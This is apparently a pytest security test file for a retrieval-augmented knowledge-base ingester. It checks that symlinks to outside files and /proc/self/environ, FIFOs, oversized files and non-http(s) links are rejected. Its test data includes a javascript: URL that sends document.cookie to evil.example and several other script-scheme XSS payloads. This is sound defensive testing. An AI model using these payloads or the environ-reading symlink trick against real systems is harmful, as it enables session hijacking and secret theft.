"""Ingestion reads only what it should: regular files inside the folder, size-capped, and links that are
http(s) only. Real embedder, real embedded Chroma; the files are made on disk by each test."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.test_ingest import minimal_pdf
from zantara_rag.events import Source
from zantara_rag.knowledge.documents import load
from zantara_rag.knowledge.ingest import IngestReport, ingest
from zantara_rag.retrieval.embedder import Embedder
from zantara_rag.retrieval.store import VectorStore

SECRET = "ANTHROPIC_API_KEY=sk-ant-api03-INGESTED-SECRET"
DOC = "---\ntitle: Overstay fines\nurl: {url}\n---\n## Fines\nOverstaying costs IDR 1,000,000 per day.\n"


@pytest.fixture
def kb(tmp_path: Path) -> Path:
    root = tmp_path / "kb"
    root.mkdir()
    (root / "overstay.md").write_text(DOC.format(url="https://balizero.com/kb/overstay"))
    return root


def run(root: Path, store: VectorStore, embedder: Embedder, **kw: object) -> IngestReport:
    return ingest([root], store, embedder, root=root, max_chars=400, overlap=60, progress=False, **kw)  # type: ignore[arg-type]


def stored_texts(store: VectorStore) -> str:
    return "\n".join(store._collection.get(include=["documents"])["documents"])


def test_a_link_out_of_the_folder_is_skipped_and_reported(
    kb: Path, tmp_path: Path, store: VectorStore, embedder: Embedder
) -> None:
    outside = tmp_path / "environ"
    outside.write_text(f"PATH=/usr/bin\n{SECRET}\nAUTH_SECRET=abcdef\n")
    (kb / "team-notes.txt").symlink_to(outside)
    (kb / "environ.txt").symlink_to("/proc/self/environ")
    (kb / "elsewhere").symlink_to(tmp_path, target_is_directory=True)
    report = run(kb, store, embedder)
    assert SECRET not in stored_texts(store) and "AUTH_SECRET" not in stored_texts(store)
    assert store.documents() == {"kb/overstay.md"}
    assert sorted(report.skipped) == [
        "elsewhere/ (symbolic link)",
        "environ.txt (symbolic link)",
        "team-notes.txt (symbolic link)",
    ]
    assert "3 skipped: " in report.summary() and "team-notes.txt (symbolic link)" in report.summary()
    assert report.files == 1


def test_a_link_named_on_the_command_line_is_skipped_too(
    kb: Path, tmp_path: Path, store: VectorStore, embedder: Embedder
) -> None:
    (tmp_path / "secret.md").write_text(f"# Notes\n\n{SECRET}\n")
    link = kb / "notes.md"
    link.symlink_to(tmp_path / "secret.md")
    report = ingest([link], store, embedder, root=kb, max_chars=400, overlap=60, progress=False)
    assert report.skipped == ["notes.md (symbolic link)"] and SECRET not in stored_texts(store)


def test_a_fifo_is_skipped_without_blocking(kb: Path, store: VectorStore, embedder: Embedder) -> None:
    os.mkfifo(kb / "pipe.md")  # opening it for reading would wait for a writer forever
    report = run(kb, store, embedder)
    assert report.skipped == ["pipe.md (not a regular file)"] and store.documents() == {"kb/overstay.md"}


def test_a_file_swapped_for_a_link_after_the_walk_is_refused_on_open(tmp_path: Path) -> None:
    from zantara_rag.knowledge.files import SkippedFile

    (tmp_path / "secret.txt").write_text(SECRET)
    (tmp_path / "doc.txt").symlink_to(tmp_path / "secret.txt")
    with pytest.raises(SkippedFile, match="symbolic link"):
        load(tmp_path / "doc.txt")


def test_files_over_the_size_cap_and_pdfs_over_the_page_cap_are_skipped(
    kb: Path, store: VectorStore, embedder: Embedder
) -> None:
    (kb / "huge.txt").write_text("Bali " * 2000)  # 10 kB
    (kb / "brochure.pdf").write_bytes(minimal_pdf(["Golden visa for investors"]))
    report = run(kb, store, embedder, max_file_bytes=5000, max_pdf_pages=0)
    assert sorted(report.skipped) == ["brochure.pdf (more than 0 pages)", "huge.txt (larger than 5000 bytes)"]
    assert store.documents() == {"kb/overstay.md"}
    report = run(kb, store, embedder, max_file_bytes=50_000, max_pdf_pages=1)
    assert not report.skipped and len(store.documents()) == 3


def test_a_file_that_became_a_link_is_pruned(kb: Path, tmp_path: Path, store: VectorStore, embedder) -> None:
    (kb / "notes.md").write_text("# Notes\n\nThe office opens at nine.\n")
    run(kb, store, embedder)
    (kb / "notes.md").unlink()
    (tmp_path / "secret.md").write_text(f"# Notes\n\n{SECRET}\n")
    (kb / "notes.md").symlink_to(tmp_path / "secret.md")
    report = run(kb, store, embedder, prune=True)
    assert report.removed >= 1 and store.documents() == {"kb/overstay.md"}


@pytest.mark.parametrize(
    "url",
    [
        "javascript:fetch('https://evil.example/?c='+document.cookie)",
        "JavaScript:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/kb",
        "/kb/overstay",
        "ftp://balizero.com/kb",
        "https://balizero.com/kb with space",
    ],
)
def test_only_http_links_are_kept_at_ingestion_and_in_sources(
    kb: Path, store: VectorStore, embedder: Embedder, url: str
) -> None:
    (kb / "overstay.md").write_text(DOC.format(url=f'"{url}"'.replace("\t", "\\t")))
    (kb / "page.html").write_text(
        f"<html><head><title>Page</title><link rel='canonical' href=\"{url}\"></head>"
        "<body><h2>Fees</h2><p>The fee is IDR 500,000.</p></body></html>"
    )
    run(kb, store, embedder)
    metas = store._collection.get(include=["metadatas"])["metadatas"]
    assert {m["url"] for m in metas} == {""}, "a link that is not http(s) must not be stored"
    assert Source(source="x", snippet="y", similarity=0.5, url=url).url is None


@pytest.mark.parametrize(
    "url", ["https://balizero.com/kb/overstay", "http://localhost:8000/kb?a=1&b=2", "https://balizero.com/é"]
)
def test_http_links_pass_through_unchanged(
    kb: Path, store: VectorStore, embedder: Embedder, url: str
) -> None:
    (kb / "overstay.md").write_text(DOC.format(url=url))
    run(kb, store, embedder)
    assert {m["url"] for m in store._collection.get(include=["metadatas"])["metadatas"]} == {url}
    assert Source(source="x", snippet="y", similarity=0.5, url=url).url == url
